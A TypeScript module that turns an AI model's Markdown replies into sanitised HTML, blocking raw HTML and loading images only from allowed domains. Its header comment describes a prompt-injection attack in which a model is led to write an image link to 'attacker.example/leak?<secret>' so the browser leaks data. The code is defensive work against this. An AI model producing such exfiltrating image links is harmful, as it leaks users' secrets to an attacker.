/**
 * Markdown to safe HTML for assistant messages: `marked` (GitHub-flavoured) renders, raw HTML in
 * the source is shown as text (never passed through), and DOMPurify sanitises the result.
 * Links open in a new tab without access to this page.
 *
 * With citations, footnote markers are carried through Markdown as placeholders and put in place
 * in the sanitised result (citations.ts, citation_dom.ts).
 *
 * Images load only from this page's origin or an allowed domain. A model can be talked into
 * writing `![x](https://attacker.example/leak?<secret>)` (prompt injection); the browser would
 * fetch it and leak the query string, so any other image becomes a plain link instead.
 * @module
 */
import DOMPurify from "dompurify";
import { Marked, type Tokens } from "marked";
import { insertMarkers } from "./citation_dom.ts";
import { type Citations, stripPlaceholders, withPlaceholders } from "./citations.ts";

const ESCAPES: Record<string, string> = {
  "&": "&amp;",
  "<": "&lt;",
  ">": "&gt;",
  '"': "&quot;",
  "'": "&#39;",
};

/** Escapes text for HTML. */
export function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => ESCAPES[c]);
}

/** Where images may come from, besides the page's own origin. */
export interface MarkdownOptions {
  /**
   * Host names whose images are shown (`example.com` also allows `img.example.com`), on their
   * default port unless written `host:port` — what the CSP's `img-src` lets through too.
   */
  imageDomains?: readonly string[];
  /** Footnote markers to draw at their places in the text (the Sources list is drawn apart). */
  citations?: Citations;
}

/**
 * Whether an image URL may be loaded: a `data:` image (no request is made), the page's own
 * origin, or http(s) on an allowed domain or one of its subdomains.
 */
export function imageAllowed(
  src: string,
  domains: readonly string[],
  base = globalThis.location?.href,
): boolean {
  let url: URL;
  try {
    url = new URL(src, base);
  } catch {
    return false;
  }
  if (url.protocol === "data:") return /^data:image\/(png|gif|jpeg|webp);/i.test(src);
  if (base && url.origin === new URL(base).origin) return true;
  if (url.protocol !== "https:" && url.protocol !== "http:") return false;
  return domains.some((d) => {
    const domain = d.toLowerCase().replace(/^\*?\./, "");
    // "host:port" names one port; a bare host its default ports (as a CSP source does).
    const host = domain.includes(":") ? url.host.toLowerCase() : url.hostname.toLowerCase();
    if (!domain.includes(":") && url.port !== "") return false;
    return host === domain || host.endsWith(`.${domain}`);
  });
}

let imageDomains: readonly string[] = [];

const marked = new Marked({
  gfm: true,
  breaks: true,
  async: false,
  renderer: {
    // Raw HTML in a message is displayed literally.
    html: ({ text }) => escapeHtml(text),
    image({ href, title, text }: Tokens.Image) {
      const titleAttr = title ? ` title="${escapeHtml(title)}"` : "";
      if (imageAllowed(href, imageDomains)) {
        return `<img src="${escapeHtml(href)}" alt="${escapeHtml(text)}"${titleAttr}>`;
      }
      // Not fetched: shown as a link the user may choose to follow.
      return `<a href="${escapeHtml(href)}"${titleAttr}>${escapeHtml(text || href)}</a>`;
    },
  },
});

let hooked = false;

const SANITIZE = {
  FORBID_TAGS: [
    "style",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "iframe",
    "picture",
    "source",
    "video",
    "audio",
    "object",
    "embed",
  ],
  FORBID_ATTR: ["style", "srcset"],
};

/**
 * marked's HTML for `source`, NOT sanitised: only for renderMarkdown and for unit tests that
 * have no DOMPurify (it needs a browser DOM).
 */
export function markdownToUnsafeHtml(source: string, options: MarkdownOptions = {}): string {
  imageDomains = options.imageDomains ?? [];
  return marked.parse(source) as string;
}

/** Renders Markdown to sanitised HTML (browser only: DOMPurify needs a DOM). */
export function renderMarkdown(source: string, options: MarkdownOptions = {}): string {
  const markers = options.citations?.markers ?? [];
  const text = markers.length ? withPlaceholders(source, markers) : source;
  if (!DOMPurify.isSupported) return escapeHtml(stripPlaceholders(text));
  if (!hooked) {
    hooked = true;
    DOMPurify.addHook("afterSanitizeAttributes", (node) => {
      if (node.tagName === "A") {
        node.setAttribute("target", "_blank");
        node.setAttribute("rel", "noopener noreferrer nofollow");
      }
      // Second line of defence: whatever produced it, no other image is ever fetched.
      if (node.tagName === "IMG" && !imageAllowed(node.getAttribute("src") ?? "", imageDomains)) {
        node.removeAttribute("src");
      }
    });
  }
  const html = markdownToUnsafeHtml(text, options);
  if (!markers.length) return DOMPurify.sanitize(html, SANITIZE);
  const fragment = DOMPurify.sanitize(html, { ...SANITIZE, RETURN_DOM_FRAGMENT: true });
  const holder = document.createElement("div");
  holder.appendChild(fragment);
  insertMarkers(holder, markers, options.citations!.footnotes);
  return holder.innerHTML;
}
